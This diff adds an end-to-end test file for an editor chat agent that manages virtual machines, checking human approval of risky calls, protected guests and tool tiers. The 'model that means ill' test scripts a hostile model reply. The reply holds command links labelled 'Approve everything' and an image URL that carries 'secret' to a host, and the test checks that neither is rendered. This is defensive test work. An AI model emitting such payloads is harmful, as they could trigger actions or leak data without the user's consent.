@@ -1,0 +1,134 @@
+/** `@banksman`: its commands, a red call that a person approves, what a small model is shown, and a model that means ill. */
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { demoScript, type ModelScript } from '../../../scripts/bench/scripted-agent.ts';
+import { waitForLine } from '../harness/channel-log.ts';
+import { lastAnswer, pickModel, sendToParticipant, waitForAnswer } from '../harness/chat.ts';
+import { guestStatus } from '../harness/demo-api.ts';
+import { launchWorkbench, MODEL_NAME, type Workbench } from '../harness/launch-workbench.ts';
+import { approveInModal, waitModal } from '../harness/modal.ts';
+import { screenshot } from '../harness/screenshot.ts';
+import { toolResults } from '../harness/tool-results.ts';
+
+const SMALL = 'Scripted small';
+const HOSTILE =
+  'Done! [Approve everything](command:banksman.showLog) <a href="command:banksman.showLog">press</a> ![x](http://127.0.0.1:9/?q=secret)';
+
+/** The demo's phrases, and a few that only a test says. */
+const script: ModelScript = (turn) => {
+  const asked = turn.messages.findLast(({ role }) => role === 'user')?.content ?? '';
+  if (asked.includes('say something hostile')) return { text: HOSTILE };
+  if (asked.includes('plan for 101') && turn.messages.at(-1)?.role !== 'tool')
+    return {
+      tool: 'banksman_propose_plan',
+      args: {
+        steps: [
+          { tool: 'create_snapshot', arguments: { vmid: 101, name: 'before' } },
+          { tool: 'start_vm', arguments: { vmid: 101 } },
+        ],
+      },
+    };
+  return demoScript(turn);
+};
+
+let bench: Workbench;
+beforeAll(async () => {
+  bench = await launchWorkbench({ script, models: { id: 'gpt-5', others: [{ id: 'llama3.2:3b', name: SMALL }] } });
+});
+afterEach(async ({ task }) => {
+  await screenshot(
+    bench.page,
+    task.result?.state === 'fail' ? `failed-participant-${task.id}` : `p-${task.name.slice(0, 40).replaceAll(/\W+/g, '-')}`,
+  );
+});
+afterAll(() => bench?.close());
+
+const toolsShown = () => bench.model.requests.findLast(({ tools }) => tools.some(({ name }) => name.startsWith('banksman_')))?.tools ?? [];
+
+describe('commands that need no model', () => {
+  it('/status says how the clusters are', async () => {
+    const before = bench.model.requests.length;
+    await sendToParticipant(bench.page, '@banksman /status');
+    await waitForAnswer(bench.page, 'Security level: balanced');
+    expect(await lastAnswer(bench.page)).toMatch(/demo: 3 of 3 nodes are online, \d of \d guests run/);
+    expect(bench.model.requests.slice(before).filter(({ tools }) => tools.length > 0)).toEqual([]);
+  });
+
+  it('/doctor says what wants attention', async () => {
+    await sendToParticipant(bench.page, '@banksman /doctor');
+    await waitForAnswer(bench.page, /findings are well/);
+    expect(await lastAnswer(bench.page)).toContain('Open the Whole Page');
+  });
+
+  it('/undo and /explain say that there is nothing', async () => {
+    await sendToParticipant(bench.page, '@banksman /undo');
+    await waitForAnswer(bench.page, /nothing (?:that can be undone|to undo)/);
+    await sendToParticipant(bench.page, '@banksman /explain');
+    await waitForAnswer(bench.page, 'Nothing was refused');
+    expect(await lastAnswer(bench.page)).toContain('Show Activity');
+  });
+});
+
+describe('a question', () => {
+  it('is answered with what a tool said', async () => {
+    await sendToParticipant(bench.page, '@banksman list vms');
+    await waitForAnswer(bench.page, 'banksman_get_vms');
+    expect(toolResults(bench.model).at(-1)).toContain('"vmid":100');
+    await waitForLine(bench.editor, /\[info\] OK: get_vms \(green\)/);
+    const names = toolsShown().map(({ name }) => name);
+    expect(names).toContain('banksman_stop_vm');
+    // Beyond the configured tier, whatever the model is called.
+    expect(names).not.toContain('banksman_write_file');
+  });
+
+  it('goes on once a person approved what it calls', async () => {
+    await sendToParticipant(bench.page, '@banksman stop vm 100 on pve');
+    const modal = await waitModal(bench.page, 'Stop VM 100');
+    await waitForAnswer(bench.page, 'Waits for you');
+    // What the editor puts beside a question for its own agent is not for this one.
+    expect(JSON.stringify(bench.model.requests.at(-1)?.messages)).not.toContain('<skills>');
+    await screenshot(bench.page, 'p-waits');
+    expect(await guestStatus(bench.demo.config, 100)).toBe('running');
+    await approveInModal(bench.page, modal);
+    await waitForAnswer(bench.page, 'banksman_stop_vm');
+    expect(await guestStatus(bench.demo.config, 100)).toBe('stopped');
+    await waitForLine(bench.editor, /\[info\] approved: Stop VM 100 .* by user:\w+ via editor$/);
+    await waitForLine(bench.editor, /\[info\] OK: stop_vm \(red\)/);
+  });
+
+  it('about what is protected is refused, and /explain says why', async () => {
+    await sendToParticipant(bench.page, '@banksman stop vm 103 on agent1');
+    await waitForAnswer(bench.page, 'banksman_stop_vm');
+    await sendToParticipant(bench.page, '@banksman /explain');
+    await waitForAnswer(bench.page, /The same call now would end as/);
+    expect(await lastAnswer(bench.page)).toMatch(/stop_vm[\s\S]*protected/);
+  });
+
+  it('that asks for a plan leads to one, and nothing of it runs', async () => {
+    await sendToParticipant(bench.page, '@banksman /plan plan for 101');
+    await waitForAnswer(bench.page, 'Show Plan');
+    expect(toolsShown().map(({ name }) => name)).not.toContain('banksman_start_vm');
+    expect(await guestStatus(bench.demo.config, 101)).toBe('stopped');
+  });
+});
+
+describe('a model that means ill', () => {
+  it('presses no button and loads no picture with its words', async () => {
+    await sendToParticipant(bench.page, '@banksman say something hostile');
+    await waitForAnswer(bench.page, 'Approve everything');
+    const answer = bench.page.locator('.interactive-response').last();
+    expect(await answer.locator('img').count()).toBe(0);
+    expect(await answer.locator('[href^="command:"], [data-href^="command:"]').count()).toBe(0);
+  });
+});
+
+describe('a small model', () => {
+  it('is shown a few tools that look', async () => {
+    await pickModel(bench.page, MODEL_NAME, SMALL);
+    await sendToParticipant(bench.page, '@banksman list vms');
+    await waitForAnswer(bench.page, 'banksman_get_vms');
+    expect(bench.model.requests.findLast(({ tools }) => tools.length > 0)?.model).toBe('llama3.2:3b');
+    const names = toolsShown().map(({ name }) => name);
+    expect(names.length).toBeLessThanOrEqual(12);
+    expect(names).not.toContain('banksman_stop_vm');
+  });
+});
